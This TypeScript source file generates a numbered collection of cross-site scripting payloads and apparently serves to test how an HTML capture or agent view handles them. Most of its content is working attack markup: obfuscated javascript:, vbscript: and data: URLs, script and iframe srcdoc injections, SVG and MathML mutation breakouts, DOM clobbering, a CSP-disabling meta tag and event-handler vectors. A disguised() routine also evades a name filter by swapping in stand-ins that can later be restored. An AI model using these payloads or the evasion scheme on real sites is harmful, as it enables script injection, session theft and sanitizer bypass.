/** One way to have a script run where markup is shown. `code` tells who ran by its number. */
export interface Payload {
  /** What it is, to find it again. */
  way: string;
  markup: string;
}

type Code = (number: number) => string;

const handlers =
  "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload blur cancel canplay canplaythrough change click close contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend wheel".split(
    " ",
  );

/** Elements that fire something by themselves. */
const firing: readonly ((handler: string) => string)[] = [
  (on) => `<img src="/none.png" alt="" ${on}>`,
  (on) =>
    `<svg width="9" height="9" ${on}><animate attributeName="x" to="1" begin="0s" dur="1s" ${on}/></svg>`,
  (on) => `<input value="x" autofocus ${on}>`,
];

const urls = (code: string): [name: string, url: string][] => [
  ["javascript", `javascript:${code}`],
  ["upper case", `JaVaScRiPt:${code}`],
  ["white space before", `  javascript:${code}`],
  ["a control character before", `&#1;javascript:${code}`],
  ["a tab within", `java&#9;script:${code}`],
  ["a line break within", `java&#10;script:${code}`],
  ["data html", `data:text/html,<script>${code}</script>`],
  [
    "data html in base64",
    `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
  ],
  [
    "data xhtml",
    `data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>${code}</script></html>`,
  ],
  [
    "data svg",
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code.replaceAll("'", '"')}'/>`,
  ],
  ["vbscript", `vbscript:${code}`],
];

/** Where an address stands that a browser goes to, loads, or takes for something else. */
const places: [name: string, markup: (url: string) => string][] = [
  ["a[href]", (u) => `<a href="${u}">l</a>`],
  ["a[href][target=_top]", (u) => `<a href="${u}" target="_top">l</a>`],
  ["a[ping]", (u) => `<a href="#x" ping="${u}">l</a>`],
  ["area[href]", (u) => `<map name="m"><area shape="rect" coords="0,0,9,9" href="${u}"></map>`],
  ["form[action]", (u) => `<form action="${u}"><button>b</button></form>`],
  ["button[formaction]", (u) => `<form><button formaction="${u}">b</button></form>`],
  ["input[formaction]", (u) => `<form><input type="image" alt="" src="/none.png" formaction="${u}"></form>`],
  ["iframe[src]", (u) => `<iframe src="${u}"></iframe>`],
  ["embed[src]", (u) => `<embed src="${u}">`],
  ["object[data]", (u) => `<object data="${u}"></object>`],
  ["object param", (u) => `<object><param name="movie" value="${u}"></object>`],
  ["img[src]", (u) => `<img alt="" src="${u}">`],
  ["img[srcset]", (u) => `<img alt="" srcset="${u} 1x">`],
  ["source[src]", (u) => `<video><source src="${u}"></video>`],
  ["video[poster]", (u) => `<video poster="${u}"></video>`],
  ["track[src]", (u) => `<video><track default src="${u}"></video>`],
  ["link stylesheet", (u) => `<link rel="stylesheet" href="${u}">`],
  ["link import", (u) => `<link rel="import" href="${u}">`],
  ["link modulepreload", (u) => `<link rel="modulepreload" href="${u}">`],
  ["base[href]", (u) => `<base href="${u}">`],
  ["meta refresh", (u) => `<meta http-equiv="refresh" content="0;url=${u}">`],
  ["svg a[href]", (u) => `<svg><a href="${u}"><text y="9">t</text></a></svg>`],
  ["svg a[xlink:href]", (u) => `<svg><a xlink:href="${u}"><text y="9">t</text></a></svg>`],
  ["svg use[href]", (u) => `<svg><use href="${u}#x"/></svg>`],
  ["svg image[href]", (u) => `<svg><image href="${u}" width="9" height="9"/></svg>`],
  ["svg script[href]", (u) => `<svg><script href="${u}"/></svg>`],
  [
    "svg animate to",
    (u) =>
      `<svg><a id="l"><animate attributeName="href" to="${u}" dur="1s" fill="freeze"/><text y="9">t</text></a></svg>`,
  ],
  [
    "svg animate values",
    (u) =>
      `<svg><a><animate attributeName="xlink:href" values="#x;${u}" dur="1s" fill="freeze"/><text y="9">t</text></a></svg>`,
  ],
  ["svg set to", (u) => `<svg><a><set attributeName="href" to="${u}"/><text y="9">t</text></a></svg>`],
  [
    "svg feImage",
    (u) =>
      `<svg><filter id="f"><feImage href="${u}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ],
  ["math[href]", (u) => `<math href="${u}"><mi>m</mi></math>`],
  ["maction", (u) => `<math><maction actiontype="statusline" xlink:href="${u}"><mi>m</mi></maction></math>`],
  ["style url", (u) => `<p style="background:url('${u.replaceAll("'", "%27")}')">p</p>`],
  ["@import", (u) => `<style>@import url("${u.replaceAll('"', "%22")}");</style>`],
  ["cursor", (u) => `<p style="cursor:url('${u.replaceAll("'", "%27")}'),auto">p</p>`],
];

const others: [name: string, markup: (code: string) => string][] = [
  ["script", (c) => `<script>${c}</script>`],
  ["script module", (c) => `<script type="module">${c}</script>`],
  [
    "script of a data address",
    (c) => `<script src="data:text/javascript,${encodeURIComponent(c)}"></script>`,
  ],
  ["script of the site", () => `<script src="/evil.js"></script>`],
  ["srcdoc", (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`],
  ["srcdoc with an entity", (c) => `<iframe srcdoc="&lt;script&gt;${c}&lt;/script&gt;"></iframe>`],
  ["srcdoc, handler", (c) => `<iframe srcdoc="<img src=x onerror=&quot;${c}&quot;>"></iframe>`],
  [
    "srcdoc, sandbox that allows",
    (c) =>
      `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${c}</script>"></iframe>`,
  ],
  ["svg script", (c) => `<svg><script>${c}</script></svg>`],
  ["svg script in CDATA", (c) => `<svg><script><![CDATA[${c}]]></script></svg>`],
  [
    "foreignObject",
    (c) =>
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${c}"><script>${c}</script></body></foreignObject></svg>`,
  ],
  [
    "svg use of a data address",
    (c) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${c}</script></svg>#x"/></svg>`,
  ],
  ["svg handler element", (c) => `<svg><handler type="text/javascript">${c}</handler></svg>`],
  ["math with html inside", (c) => `<math><mtext><img src="x" onerror="${c}"></mtext></math>`],
  [
    "annotation-xml",
    (c) => `<math><annotation-xml encoding="text/html"><img src="x" onerror="${c}"></annotation-xml></math>`,
  ],
  ["template", (c) => `<template><script>${c}</script></template>`],
  ["noscript", (c) => `<noscript><img src="x" onerror="${c}"></noscript>`],
  [
    "noscript that closes",
    (c) => `<noscript><p title="</noscript><img src=x onerror=${c.replaceAll('"', "&quot;")}>"></noscript>`,
  ],
  ["style that closes", (c) => `<style>/*</style><img src=x onerror="${c}">*/</style>`],
  ["style as text", (c) => `<svg><style>&lt;img src=x onerror="${c}"&gt;</style></svg>`],
  ["a comment", (c) => `<!--><img src=x onerror="${c}">-->`],
  ["expression", (c) => `<p style="width:expression(${c})">p</p>`],
  ["behavior", () => `<p style="behavior:url(/evil.htc);-moz-binding:url(/evil.xml#x)">p</p>`],
  ["css content", (c) => `<style>p::after { content: "</style><script>${c}</script>" }</style>`],
  ["meta set-cookie", () => `<meta http-equiv="set-cookie" content="evil=1">`],
  [
    "meta policy",
    () => `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
  ],
  ["meta default-style", () => `<meta http-equiv="default-style" content="x">`],
  ["frameset", (c) => `<frameset onload="${c}"><frame src="javascript:${c}"></frameset>`],
  ["applet", (c) => `<applet code="javascript:${c}"></applet>`],
  ["portal", () => `<portal src="/evil.html"></portal>`],
  ["fencedframe", () => `<fencedframe src="/evil.html"></fencedframe>`],
  ["isindex", (c) => `<isindex type="image" src="1" onerror="${c}">`],
  ["keygen", (c) => `<keygen autofocus onfocus="${c}">`],
  ["marquee", (c) => `<marquee onstart="${c}" onfinish="${c}">m</marquee>`],
  ["details", (c) => `<details open ontoggle="${c}"><summary>s</summary></details>`],
  ["dialog", (c) => `<dialog open onclose="${c}"><form method="dialog"><button>b</button></form></dialog>`],
  [
    "popover",
    (c) =>
      `<button popovertarget="pop" popovertargetaction="show">b</button><p popover id="pop" onbeforetoggle="${c}">p</p>`,
  ],
  [
    "command",
    (c) =>
      `<button commandfor="cmd" command="show-modal">b</button><dialog id="cmd" onbeforetoggle="${c}">d</dialog>`,
  ],
  ["is=", (c) => `<img is="evil-img" src="x" onerror="${c}"><script is="evil-script">${c}</script>`],
  ["a custom element", (c) => `<copane-agent-view onclick="${c}"></copane-agent-view>`],
  [
    "name of a window",
    () =>
      `<iframe name="top"></iframe><iframe name="parent"></iframe><form name="agentView"><input name="document"></form>`,
  ],
  [
    "names of the document",
    () => `<img name="createElement"><img name="getElementById"><form name="documentElement"></form>`,
  ],
  [
    "target of a form",
    () => `<form action="/evil" target="_top"><input name="q"><button autofocus>b</button></form>`,
  ],
  ["download", () => `<a href="/evil.js" download="evil.exe">l</a>`],
  [
    "text/html in a picture",
    (c) =>
      `<picture><source srcset="data:text/html,<script>${c}</script>"><img alt="" src="x" onerror="${c}"></picture>`,
  ],
  ["xml-stylesheet", () => `<?xml-stylesheet href="javascript:alert(1)"?>`],
  ["contenteditable", (c) => `<p contenteditable autofocus onfocus="${c}" oninput="${c}">p</p>`],
  [
    "translate of an attribute",
    (c) => `<svg><a><set attributeName="onclick" to="${c}"/><text y="9">t</text></a></svg>`,
  ],
  ["discard", (c) => `<svg><discard onbegin="${c}" begin="0s"/></svg>`],
];

/** All payloads, numbered from 0. */
export function payloads(code: Code): Payload[] {
  const all: Payload[] = [];
  const add = (way: string, markup: (code: string) => string) => {
    all.push({ way, markup: markup(code(all.length)) });
  };
  for (const [way, markup] of others) add(way, markup);
  for (const [place, markup] of places)
    for (const [index, [scheme]] of urls("").entries())
      add(`${place}: ${scheme}`, (c) => markup((urls(c)[index] as [string, string])[1]));
  for (const handler of handlers)
    for (const [index, element] of firing.entries())
      add(`on${handler}, ${index}`, (c) => element(`on${handler}="${c}"`));
  return all;
}

/** Names and schemes that our capture never sends. Each has a stand-in of the same length that it does send. */
const forbidden =
  "script iframe embed object applet base meta link frame srcdoc href src data action formaction ping http-equiv autofocus sandbox javascript vbscript target download form poster srcset".split(
    " ",
  );
const standIn = (name: string) => `q${name.slice(1)}`;

/** Markup that capture takes for harmless, and a stream in which its names were put back is not. */
export function disguised(markup: string): string {
  let text = markup.replace(/\bon(?=[a-z]+=)/g, "qn");
  for (const name of forbidden)
    text = text.replace(new RegExp(`(?<![a-z])${name}(?![a-z])`, "gi"), (found) => standIn(found));
  return text;
}

/** What puts the names back in bytes, as the source of a regular expression over text of one byte each. */
export const disguises = `q(?:${[...forbidden, "onxxx"]
  .map((name) => (name === "onxxx" ? "n(?=[a-z]{3,})" : `${name.slice(1)}(?![a-z])`))
  .join("|")})`;
/** The first letters that were taken, by what follows the q. */
export const firstLetters: Record<string, string> = Object.fromEntries(
  [...forbidden, "on"].map((name) => [name.slice(1), name[0] as string]),
);
